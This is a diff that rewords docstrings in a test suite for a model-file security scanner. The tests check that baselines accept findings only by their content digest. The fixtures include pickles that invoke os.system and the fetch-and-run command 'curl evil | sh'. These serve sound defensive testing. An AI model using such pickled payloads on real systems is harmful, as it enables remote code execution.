@@ -1,4 +1,4 @@
-"""What was accepted once is accepted with its content: another payload under the same name fails."""
+"""A finding is accepted together with its content: another payload under the same name fails."""
 
 from __future__ import annotations
 
@@ -32,7 +32,7 @@ PICKLES = ("audit", "a.pt", "--select", "pickles")
 
 
 def test_another_command_of_an_accepted_call_fails(statecli, folder):
-    """`os.system` was accepted for `echo hello`, not for anything else."""
+    """The baseline accepted `os.system` only with the command `echo hello`."""
     save("echo hello")
     assert statecli(*PICKLES, *ACCEPT).code == 0
     assert statecli(*PICKLES, "--baseline", "b.json").code == 0
@@ -43,11 +43,11 @@ def test_another_command_of_an_accepted_call_fails(statecli, folder):
 
 
 class Settings:
-    """An object that statecli does not know, with no known harm."""
+    """A class that statecli does not know and that has no known harm."""
 
 
 def test_an_unknown_class_with_other_weights_is_accepted(statecli, folder):
-    """The digest is that of the pickle, not of the tensors: the next training writes the same object."""
+    """The digest covers the pickle and not the tensors, because the next training writes the same object."""
     for weights in (torch.zeros(4), torch.ones(4)):
         torch.save({"w": weights, "x": Settings()}, "a.pt")
         if not weights.any():
@@ -59,7 +59,7 @@ def test_an_unknown_class_with_other_weights_is_accepted(statecli, folder):
 
 @pytest.mark.parametrize("legacy", [True, False])
 def test_a_harmful_call_with_other_tensors_fails(statecli, folder, legacy):
-    """`exec` of a tensor runs what the tensor holds."""
+    """A call with a tensor as argument runs the content of the tensor."""
     for code, expected in (("print(1)", 0), ("print(2)", 1)):
         tensor = torch.tensor(list(code.encode()), dtype=torch.uint8)
         torch.save({"w": tensor, "x": Call(os.system, tensor)}, "a.pt", _use_new_zipfile_serialization=not legacy)
@@ -70,7 +70,7 @@ def test_a_harmful_call_with_other_tensors_fails(statecli, folder, legacy):
 
 
 def test_harmful_data_with_other_tensors_fails(statecli, folder):
-    """A path that a callback loads may lie in a file with tensors: they are accepted together."""
+    """A path that a callback loads may be in a file with tensors: path and tensors are accepted together."""
     for weights, expected in ((torch.zeros(4), 0), (torch.ones(4), 1)):
         callback = {"ModelCheckpoint": {"best_model_path": "http://host/best.ckpt"}}
         torch.save({"state_dict": {"w": weights}, "callbacks": callback, "pytorch-lightning_version": "2"}, "a.pt")
@@ -81,7 +81,7 @@ def test_harmful_data_with_other_tensors_fails(statecli, folder):
 
 
 def test_a_file_of_too_many_bytes_is_not_accepted(statecli, folder, monkeypatch):
-    """Its digest is unknown, so that other bytes would pass."""
+    """Its digest is unknown, so other bytes would also be accepted."""
     save("echo")
     monkeypatch.setattr(scan, "_MAX_DIGESTED_FILE", 100)
     statecli(*PICKLES, *ACCEPT)
@@ -89,7 +89,7 @@ def test_a_file_of_too_many_bytes_is_not_accepted(statecli, folder, monkeypatch)
 
 
 def package(path, *names):
-    """A torch.package with a harmful and a harmless module of these names."""
+    """Write a torch.package with a harmful and a harmless module of the given names."""
     sources = ("import os\nos.getcwd()\nclass C: pass\n", "class C: pass\n")
     with PackageExporter(path) as exporter:
         for name, source in zip(names, sources, strict=True):
@@ -98,12 +98,12 @@ def package(path, *names):
 
 
 def digest_of(path, name):
-    """The content of the finding about this file of an archive."""
+    """Return the content digest of the finding about a file in an archive."""
     return next(pickle.digest for pickle in scan.scan_pickles(path) if pickle.where.endswith(name))
 
 
 def test_modules_of_a_package_that_exchange_their_names_are_another_content(folder):
-    """A module that nothing imported runs under the name of another."""
+    """After the exchange, a module that was never imported runs under the name of the imported module."""
     (folder / "b").mkdir()
     package("a.pt", "unused", "used")
     package("b/a.pt", "used", "unused")
@@ -111,7 +111,7 @@ def test_modules_of_a_package_that_exchange_their_names_are_another_content(fold
 
 
 def test_files_of_a_compiled_model_that_exchange_their_names_are_another_content(folder):
-    """The loader opens the library of one name."""
+    """The loader opens the library by name."""
     digests = set()
     for names in (("x.so", "y.so"), ("y.so", "x.so")):
         with zipfile.ZipFile("a.pt2", "w") as archive:
@@ -123,7 +123,7 @@ def test_files_of_a_compiled_model_that_exchange_their_names_are_another_content
 
 
 def test_a_script_that_reads_a_file_with_another_path_fails(statecli, folder):
-    """The path is an attribute, which lies in another record than the code."""
+    """The path is an attribute and is stored in another record than the code."""
 
     class Reader(torch.nn.Module):
         def __init__(self, path):
@@ -143,7 +143,7 @@ def test_a_script_that_reads_a_file_with_another_path_fails(statecli, folder):
 
 @pytest.mark.parametrize("legacy", [True, False])
 def test_another_nested_pickle_fails(statecli, folder, legacy):
-    """A pickle in a string, in both containers."""
+    """The pickle is in a byte string, in both of torch's formats."""
     for command, code in (("echo", 0), ("curl", 1)):
         payload = {"w": torch.zeros(1), "x": pickle.dumps(Call(os.system, command))}
         torch.save(payload, "a.pt", _use_new_zipfile_serialization=not legacy)
@@ -153,7 +153,7 @@ def test_another_nested_pickle_fails(statecli, folder, legacy):
 
 
 def test_another_pickle_that_cannot_be_read_fails(statecli, folder):
-    """What follows the place where the scan stopped is part of the content."""
+    """The bytes after the place where the scan stopped are part of the accepted content."""
     for tail, code in ((b"a", 0), (b"b", 1)):
         Path("a.pkl").write_bytes(pickle.dumps([1, 2])[:-1] + b"\xff" * 9 + tail * 9)
         if not code:
@@ -164,7 +164,7 @@ def test_another_pickle_that_cannot_be_read_fails(statecli, folder):
 
 
 def test_other_values_of_an_accepted_mismatch_fail(statecli, folder):
-    """The digest that was found is accepted, not any digest."""
+    """The baseline accepts the digest of the finding and no other digest."""
     save_file({"w": torch.zeros(3)}, "m.safetensors")
     assert statecli("lock", "m.safetensors", "-o", "lock.json").code == 0
     audit = ("audit", "m.safetensors", "--lock", "lock.json", "--select", "lock")
@@ -177,7 +177,7 @@ def test_other_values_of_an_accepted_mismatch_fail(statecli, folder):
 
 @pytest.mark.parametrize("tensors", [{"w": torch.zeros(3), "new": torch.ones(2)}, {"w": torch.ones(3).half()}])
 def test_a_mismatch_without_a_digest_is_never_accepted(statecli, folder, tensors):
-    """An added tensor, or a tensor of another dtype: any values would pass."""
+    """An added tensor, or a tensor of another dtype, has no digest, so any values would be accepted."""
     save_file({"w": torch.zeros(3)}, "m.safetensors")
     assert statecli("lock", "m.safetensors", "-o", "lock.json").code == 0
     audit = ("audit", "m.safetensors", "--lock", "lock.json", "--select", "lock")
@@ -188,7 +188,7 @@ def test_a_mismatch_without_a_digest_is_never_accepted(statecli, folder, tensors
 
 
 def test_more_nan_than_were_accepted_fail(statecli, folder):
-    """For rules without a digest the message is the content."""
+    """A rule without a digest uses the message as the accepted content."""
     audit = ("audit", "a.pt", "--select", "nan", "--values")
     torch.save({"w": torch.tensor([float("nan"), 1.0, 2.0])}, "a.pt")
     assert statecli(*audit, *ACCEPT).code == 0
@@ -197,7 +197,7 @@ def test_more_nan_than_were_accepted_fail(statecli, folder):
 
 
 def test_the_fingerprint_of_another_payload_is_another(statecli, folder):
-    """A finding that was dismissed in code scanning does not hide the next one."""
+    """A finding that was dismissed in code scanning does not hide the next finding."""
     prints = set()
     for command in ("echo", "curl evil | sh"):
         save(command)
@@ -211,7 +211,7 @@ def test_the_fingerprint_of_another_payload_is_another(statecli, folder):
 
 
 def test_a_baseline_that_accepts_by_name_is_refused(statecli, folder):
-    """One line, exit 2, with what to type."""
+    """The command prints one line with the remedy and exits with status 2."""
     save("echo")
     Path("b.json").write_text('{"schema": "statecli.baseline/1", "findings": []}')
     result = statecli(*PICKLES, "--baseline", "b.json")
@@ -225,7 +225,7 @@ def ignore(*contents):
 
 
 def test_per_target_ignore_accepts_a_payload_only_by_its_content(statecli, folder):
-    """A name alone accepts nothing; a note says what to list."""
+    """A name alone accepts nothing; a note gives the digest to list."""
     Path(".git").mkdir()
     save("echo hello")
     ignore()
